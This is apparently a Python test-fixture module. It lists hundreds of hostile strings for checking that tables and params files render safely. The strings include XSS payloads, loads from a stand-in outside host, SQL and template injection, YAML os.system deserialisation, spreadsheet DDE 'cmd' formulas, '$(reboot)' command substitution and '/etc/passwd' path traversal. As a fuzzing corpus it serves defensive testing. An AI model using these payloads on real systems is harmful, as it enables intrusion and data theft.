"""Strings that try to act, for every place where a table or a params file can put one."""

HOSTILE = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</ScRiPt ><img src=x onerror=window.hacked=1>",
    "<!--<script>",
    "]]><script>window.hacked=1</script>",
    "<img src=http://198.51.100.7/x.png>",
    "<svg onload=window.hacked=1>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    "<style>@import 'http://198.51.100.7/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'>",
    "<base href=http://198.51.100.7/>",
    "<form action=http://198.51.100.7/><input name=a autofocus onfocus=window.hacked=1>",
    '" onmouseover="window.hacked=1" x="',
    "' autofocus onfocus='window.hacked=1' x='",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "{{ 7*7 }} {% raw %} {x} {0} %s ${window.hacked=1}",
    "datum.constructor.constructor('window.hacked=1')()",
    "');window.hacked=1;('",
    "`;window.hacked=1;`",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &amp; &#x3c;b&#x3e;",
    "line\u2028separator\u2029paragraph",
    "\u202egnp.evil\u202c \u2066isolated\u2069 \u200f",
    "null\x00 bell\x07 escape\x1b[31m delete\x7f",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\ufeff\u200b\u00ad\u2060zero width",
    "a\nb\r\nc\td",
    "=cmd|'/c calc'!A0",
    "../../../etc/passwd",
    "[x](javascript:window.hacked=1) ![y](http://198.51.100.7/y.png)",
    "x" * 10_000,
    "<b>" * 3_000,
    "الشركة العربية 123 (x)",
    "",
)

_ACT = "window.hacked=1"
_OUT = "http://198.51.100.7"
_TAGS = (
    "<svg/onload={a}>", "<body onload={a}>", "<img src=x onerror={a}>", "<video src=x onerror={a}>", "<audio src onerror={a}>",
    "<details open ontoggle={a}>", "<marquee onstart={a}>", "<select autofocus onfocus={a}>", "<input autofocus onfocus={a}>",
    "<textarea autofocus onfocus={a}>", "<keygen autofocus onfocus={a}>", "<object data='javascript:{a}'>",
    "<embed src='javascript:{a}'>", "<a href='javascript:{a}'>x</a>", "<a xlink:href='javascript:{a}'>x</a>",
    "<math><mi xlink:href='javascript:{a}'>x</mi></math>", "<svg><script>{a}</script></svg>",
    "<svg><animate onbegin={a} attributeName=x dur=1s>", "<svg><a xlink:href='javascript:{a}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={a}>#x'>", "<svg><foreignObject><iframe onload={a}></foreignObject></svg>",
    "<table background='javascript:{a}'>", "<isindex action='javascript:{a}' type=submit>", "<link rel=import href='{o}/x'>",
    "<link rel=stylesheet href='{o}/x.css'>", "<link rel=prefetch href='{o}/p'>", "<script src='{o}/x.js'></script>",
    "<script type=module>{a}</script>", "<script>{a}//", "<scr<script>ipt>{a}</scr</script>ipt>", "<<script>{a}//<</script>",
    "<noscript><p title='</noscript><img src=x onerror={a}>'>", "<style>*{background:url({o}/b)}</style>",
    "<div style='background:url({o}/b)'>x</div>", "<div style='width:expression({a})'>x</div>", "<div onclick={a}>x</div>",
    "<button formaction='javascript:{a}'>x</button>", "<form><button formaction='{o}/f'>x</form>", "<frameset onload={a}>",
    "<template><img src=x onerror={a}></template>", "<portal src='{o}/'>", "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<object type='text/html' data='{o}/'>", "<applet code=x>", "<bgsound src='{o}/s'>", "<img srcset='{o}/s 1x'>",
    "<picture><source srcset='{o}/s'><img></picture>", "<track src='{o}/t'>", "<meta http-equiv=Content-Security-Policy content=''>",
    "<x contenteditable onblur={a}>x", "<p oncopy={a}>x", "<a ping='{o}/ping' href=#>x</a>", "<svg><image href='{o}/i'/></svg>",
    "<svg><feImage href='{o}/i'/></svg>", "<div popover id=x ontoggle={a}>", "<x onpointerrawupdate={a}>",
)
_BREAKING_OUT = (
    "'>{t}", '">{t}', "-->{t}", "*/{t}", "]]>{t}", "</title>{t}", "</textarea>{t}", "</style>{t}", "</svg>{t}", "</td></table>{t}",
    "</option></select>{t}", "</script\n>{t}", "</script/>{t}", "<![CDATA[{t}]]>", "<?xml version='1.0'?>{t}", "<!DOCTYPE html>{t}",
    "\\\"};{a};//", "\\');{a};//", "\\u0022;{a};//", "\\x3cscript\\x3e{a}\\x3c/script\\x3e", "\r\n\r\n{t}", "+ADw-script+AD4-{a}+ADw-/script+AD4-",
    "%3Cscript%3E{a}%3C/script%3E", "&#60;script&#62;{a}&#60;/script&#62;", "&lt;img src=x onerror={a}&gt;", "&NewLine;javascript&colon;{a}",
)  # fmt: skip
_ADDRESSES = (
    "JaVaScRiPt:{a}", "java\tscript:{a}", "java\nscript:{a}", "\x01javascript:{a}", " javascript:{a}", "javascript&#58;{a}",
    "vbscript:{a}", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload={a}>",
    "view-source:{o}", "file:///etc/passwd", "{o}/x.png", "//198.51.100.7/x", "\\\\198.51.100.7\\share", "ftp://198.51.100.7/", "blob:{o}/1",
    "ws://198.51.100.7/", "mailto:?body={a}", "tel:*#06#", "intent://x#Intent;end",
)
_CHARTS = (
    "{\"signal\": \"{a}\"}", "{\"expr\": \"{a}\"}", "{\"url\": \"{o}/d.json\"}", "{\"href\": {\"value\": \"javascript:{a}\"}}",
    "{\"image\": \"{o}/i.png\"}", "datum['constructor']['constructor']('{a}')()", "event.view.constructor('{a}')()",
    "toString.constructor('{a}')()", "__proto__", "constructor", "hasOwnProperty", "prototype", "datum.x); {a}; (", "[object Object]",
    "a.b.c", "a['b']", "a[0]", "a\\.b", "x~y", "fold", "NaN", "Infinity", "undefined", "null", "true", "-0", "1e999", "0x41", "1_000",
    "signal:{a}", "$schema", "{\"$ref\": \"#/\"}",
)
_TEMPLATES = (
    "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for x in y %}", "{# comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<?php {a} ?>",
    "{0.__class__}", "{x!r}", "{}", "{", "}", "%(x)s", "%n%n%n", "$(reboot)", "`reboot`", "$HOME", "${IFS}", "@import '{o}'", "\\input{/etc/passwd}",
    "$x$ $$\\href{javascript:{a}}{y}$$", "![x]({o}/m.png)", "[x]: javascript:{a}", "<!--#exec cmd=x-->", "# heading", "- item", "```\ncode", "|a|b|", "\\(x\\)",
)
_ENGINES = (
    "'; DROP TABLE orders; --", "' OR 1=1 --", "\" OR \"\"=\"", "1; ATTACH 'x.db'", "x'); COPY t TO '/tmp/x'; --", "\\'; SELECT 1; --", "/* */", "--",
    "!!python/object/apply:os.system ['true']", "!!js/function 'x'", "&a [*a, *a]", "<<: *x", "key: value", "- - -", "? x", "%YAML 1.2", "@x", "`x`", "yes", "no", "~", "2026-13-45",
    "\\N", "\\0", "NULL", "None", "nan", "0x1F", "1,000", "1.000,00", "''", '""', "\\", "\\\\", "'", '"', "`",
)
_SHEETS = (
    "=1+1", "=HYPERLINK(\"{o}\",\"x\")", "+cmd|'/c calc'!A0", "-cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "a;=cmd|'/c calc'!A0",
    "a\t=1+1", "=IMPORTXML(\"{o}\",\"//a\")", "=WEBSERVICE(\"{o}\")", "＝1+1", "'=1+1", "\"=1+1", ";-cmd|x", "=DDE(\"cmd\";\"/c\")",
)
_FILES = (
    "..", ".", "/", "\\", "../x", "..\\x", "/etc/passwd", "C:\\x", "con", "CON.html", "nul", "aux.csv", "com1", "lpt9", "index", "index.html", "manifest.json", "findings",
    "a/b", "a\\b", "a:b", "a*b?", "a|b", ".hidden", "~root", "-rf", "a\x00.html", "x" * 300, "%2e%2e%2f", "name ", "name.",
)
_LETTERS = (
    "\u202e\u202d\u202c", "\u2066\u2067\u2068\u2069", "\u061c\u200e\u200f", "a\u0300\u0301\u0302\u0303" * 40, "\u2028", "\u2029", "\u0085", "\x00", "\x1b]0;x\x07", "\x1b[2J",
    "\x7f\x80\x9f", "\ufffe\uffff", "\ufdd0", "\U000e0001\U000e0041", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0130\u0131\u017f\u1e9e", "\uff1cscript\uff1e", "ﷺ" * 50, "שלום <b>", "مرحبا\u202e)",
    " ", "\u00a0", "\u3000", "\u180e", "\n", "\t", "\r\n", "A" * 10_000, "漢" * 5_000, "<" * 9_999, "&" * 9_999, "'\"" * 4_000, "\\" * 9_999,
)


def _filled(texts: tuple[str, ...]) -> tuple[str, ...]:
    image = f"<img src=x onerror={_ACT}>"
    return tuple(t.replace("{a}", _ACT).replace("{o}", _OUT).replace("{t}", image) for t in texts)


EVERY = tuple(dict.fromkeys((
    *HOSTILE, *_filled(_TAGS), *_filled(_BREAKING_OUT), *_filled(_ADDRESSES), *_filled(_CHARTS), *_filled(_TEMPLATES),
    *_filled(_ENGINES), *_filled(_SHEETS), *_FILES, *_LETTERS,
)))  # fmt: skip
"""All of them, each once."""
